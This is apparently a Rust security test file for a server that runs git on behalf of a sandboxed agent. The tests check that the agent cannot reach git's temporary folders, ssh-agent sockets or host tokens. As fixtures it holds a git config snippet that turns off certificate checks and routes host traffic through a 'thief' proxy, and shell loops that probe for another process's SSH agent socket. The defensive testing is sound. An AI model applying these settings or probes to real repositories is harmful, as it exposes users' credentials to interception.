//! Attacks on the account's token: an agent changes the repository's configuration while git is about to connect.

use std::{
    fs,
    net::{SocketAddr, TcpListener as CanaryListener},
    path::{Path, PathBuf},
    pin::pin,
    process::Command,
};

use data_encoding::BASE64;
use futures_util::future::{Either, select};
use reqwest::Method;
use serde_json::{Value, json};
use tempfile::TempDir;
use tokio::net::TcpListener;

use super::{remote::Remote, tokens::serve_tls};
use crate::{
    harness::{Answer, Skep, eventually, send},
    programs::child,
    webhooks::https::Authority,
};

const TOKEN: &str = "a-token-for-one-host";

/// Not below /tmp, of which helpers have their own unless a root is there.
fn folder() -> TempDir {
    tempfile::Builder::new().prefix("skep-test-").tempdir_in("/var/tmp").unwrap()
}

/// A server without VMs, and a repository of its workspace.
struct NetworkTest {
    skep: Skep,
    /// A key of the role `agent`.
    key: String,
    path: String,
}

impl NetworkTest {
    async fn start(trusted: &Path) -> Self {
        let dir = folder();
        let skep = Skep::start_as(dir, |command| {
            // VMs need programs of the PATH; without them, the server starts at once.
            command.args(["--git-allow", "127.0.0.1"]).env("PATH", "/nonexistent");
            command.env("SSL_CERT_FILE", trusted);
        })
        .await;
        let made = skep.post("/api/keys", &json!({"name": "agent", "role": "agent"})).await.ok(201);
        let key = made["key"].as_str().unwrap().to_owned();
        let root = skep.get("/api/whoami").await.ok(200)["roots"][0].as_str().unwrap().to_owned();
        let test = Self { skep, key, path: format!("{root}/project") };
        test.post("git/init", json!({})).await.ok(201);
        test
    }

    /// A request of the agent about the repository.
    async fn post(&self, operation: &str, mut body: Value) -> Answer {
        body["path"] = json!(self.path);
        send(self.skep.bare(Method::POST, &format!("/api/{operation}")).bearer_auth(&self.key).json(&body))
            .await
    }

    /// What a command prints in the repository. Commands in the workspace need the key of an administrator.
    async fn run(&self, command: &str) -> String {
        let ran = self.skep.post("/api/exec", &json!({"command": command, "cwd": self.path})).await.ok(200);
        assert_eq!(ran["exit_code"], 0, "{command}: {ran}");
        ran["stdout"].as_str().unwrap().to_owned()
    }

    /// Adds settings to the repository, as the agent.
    async fn add_settings(&self, settings: &str) {
        let path = format!("{}/.git/config", self.path);
        let content = fs::read_to_string(&path).unwrap() + settings;
        let request = self.skep.bare(Method::POST, "/api/files/write").bearer_auth(&self.key);
        send(request.json(&json!({"path": path, "content": content}))).await.ok(200);
    }

    async fn add_remote(&self, name: &str, url: String) {
        self.post("git/remote", json!({"name": name, "url": url})).await.ok(200);
    }

    /// The git directories of calls.
    fn git_dirs(&self) -> Vec<PathBuf> {
        self.temporary_files(".skep-exchange-")
    }

    /// The files with this prefix in the temporary folders of the helper for git, as root sees them.
    fn temporary_files(&self, prefix: &str) -> Vec<PathBuf> {
        let root = Path::new("/proc").join(child(self.skep.pid(), "--git\0").to_string()).join("root");
        let entries = ["tmp", "dev/shm"].map(|folder| fs::read_dir(root.join(folder)).unwrap());
        let paths = entries.into_iter().flatten().map(|entry| entry.unwrap().path());
        paths.filter(|path| path.to_string_lossy().contains(&format!("/{prefix}"))).collect()
    }
}

#[tokio::test]
async fn commands_do_not_reach_the_git_directory_of_a_call_that_uses_the_network() {
    let test = NetworkTest::start(Path::new("/nonexistent")).await;
    let silent = TcpListener::bind("127.0.0.1:0").await.unwrap();
    test.add_remote("origin", format!("http://{}/x.git", silent.local_addr().unwrap())).await;
    let look = async {
        let connection = silent.accept().await.unwrap();
        let git_dirs = test.git_dirs();
        assert!(git_dirs.len() == 1 && git_dirs[0].join("config").is_file(), "{git_dirs:?}");
        let name = git_dirs[0].file_name().unwrap().to_str().unwrap();
        let search = "ls -A /tmp /dev/shm; find .. -name '.skep-*'";
        assert!(!test.run(search).await.contains(".skep-"), "{name}");
        for folder in ["/tmp", "/dev/shm"] {
            test.run(&format!("! cat {folder}/{name}/config")).await;
        }
        drop((connection, silent));
    };
    let (fetched, ()) = tokio::join!(test.post("git/fetch", json!({})), look);
    fetched.refused(409, "remote_failed");
    eventually("the removal of the folder", async || test.git_dirs().is_empty()).await;
}

/// ssh starts after its agent, which has the key. All of them run in the fence.
#[tokio::test]
async fn a_key_reaches_ssh_in_the_fence_of_git() {
    let test = NetworkTest::start(Path::new("/nonexistent")).await;
    let host = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = format!("ssh://git@{}", host.local_addr().unwrap());
    let keys = folder();
    let key = keys.path().join("key");
    let made = Command::new("ssh-keygen").args(["-q", "-t", "ed25519", "-N", "", "-f"]).arg(&key).status();
    assert!(made.unwrap().success());
    let credential = json!({"host": address.replace("git@", ""), "token": fs::read_to_string(&key).unwrap()});
    test.skep.post("/api/git/credentials", &credential).await.ok(201);
    test.add_remote("origin", format!("{address}/x.git")).await;
    let fetch = pin!(test.post("git/fetch", json!({})));
    let (connection, fetch) = match select(fetch, pin!(host.accept())).await {
        Either::Left((answer, _)) => panic!("git did not connect: {answer:?}"),
        Either::Right((connection, fetch)) => (connection.unwrap().0, fetch),
    };
    // Without the first line of a server, ssh gives up after 20 s.
    connection.writable().await.unwrap();
    connection.try_write(b"SSH-2.0-silent\r\n").unwrap();
    the_agent_is_not_reached_by_commands(&test).await;
    drop((connection, host));
    fetch.await.refused(409, "remote_failed");
}

async fn the_agent_is_not_reached_by_commands(test: &NetworkTest) {
    let sockets = test.temporary_files(".skep-exchange-ssh-");
    assert_eq!(sockets.len(), 1, "{sockets:?}");
    let name = sockets[0].file_name().unwrap().to_str().unwrap();
    // The control: root reaches it by the root directory of git's helper.
    let mut control = Command::new("ssh-add");
    let reached = control.arg("-L").env("SSH_AUTH_SOCK", &sockets[0]).output().unwrap();
    assert!(String::from_utf8(reached.stdout).unwrap().starts_with("ssh-ed25519 "));
    let search = format!(
        "for folder in /tmp /dev/shm /proc/1/root/tmp .; do SSH_AUTH_SOCK=$folder/{name} ssh-add -L; done 2>&1"
    );
    let found = test.run(&format!("{search}; true")).await;
    assert_eq!(found.matches("Error connecting to agent").count(), 4, "{found}");
    // The control: a command reaches an agent of its own.
    let own =
        test.run("eval $(ssh-agent -a ./own) > /dev/null; ssh-add -L || true; ssh-agent -k > /dev/null");
    assert_eq!(own.await, "The agent has no identities.\n");
}

/// Settings that redirect git's requests for a host to the thief's proxy, without checking certificates.
fn theft(host: SocketAddr, thief: SocketAddr) -> String {
    format!("[http \"https://{host}/\"]\n\tsslVerify = false\n\tproxy = http://{thief}\n")
}

#[tokio::test]
async fn an_agent_does_not_get_the_token_of_a_push_that_waits_for_the_repository() {
    let authorization = format!("Basic {}", BASE64.encode(format!("x-access-token:{TOKEN}").as_bytes()));
    let remote = Remote::start_with(&[&authorization]);
    let authority = Authority::new("of git hosts");
    let trusted = authority.file_in(folder());
    let host = serve_tls(authority.for_server("127.0.0.1"), remote.address()).await;
    let thief = CanaryListener::bind("127.0.0.1:0").unwrap();
    thief.set_nonblocking(true).unwrap();
    let settings = theft(host, thief.local_addr().unwrap());

    let test = NetworkTest::start(&trusted.1).await;
    let credential = json!({"host": host.to_string(), "token": TOKEN});
    test.skep.post("/api/git/credentials", &credential).await.ok(201);
    let silent = TcpListener::bind("127.0.0.1:0").await.unwrap();
    test.add_remote("silent", format!("http://{}/x.git", silent.local_addr().unwrap())).await;
    test.add_remote("origin", format!("https://{host}/x.git")).await;
    test.run("echo one > file").await;
    test.post("git/add", json!({})).await.ok(200);
    let made = test.post("git/commit", json!({"message": "First"})).await.ok(201);

    let attack = async {
        // The fetch has the repository as long as its remote is silent.
        let connection = silent.accept().await.unwrap();
        let steal = async {
            eventually("the push, which waits", async || test.git_dirs().len() == 2).await;
            test.add_settings(&settings).await;
            drop((connection, silent));
        };
        tokio::join!(test.post("git/push", json!({})), steal).0
    };
    let (fetched, pushed) = tokio::join!(test.post("git/fetch", json!({"remote": "silent"})), attack);
    fetched.refused(409, "remote_failed");
    assert_eq!(pushed.ok(200)["to"], made["commit"]);
    assert_eq!(remote.git(&["-C", "x.git", "rev-parse", "main"]), made["commit"].as_str().unwrap());
    assert!(thief.accept().is_err(), "somebody connected");
    for operation in ["git/push", "git/pull", "git/fetch"] {
        test.post(operation, json!({})).await.refused(409, "hostile_repository");
    }
    // The control: a git that obeys the settings connects to the thief, who ends the connection.
    let control = test.run("GIT_TERMINAL_PROMPT=0 git ls-remote origin; true");
    let theft = eventually("the connection to the thief", async || thief.accept().is_ok());
    tokio::join!(control, theft);
}
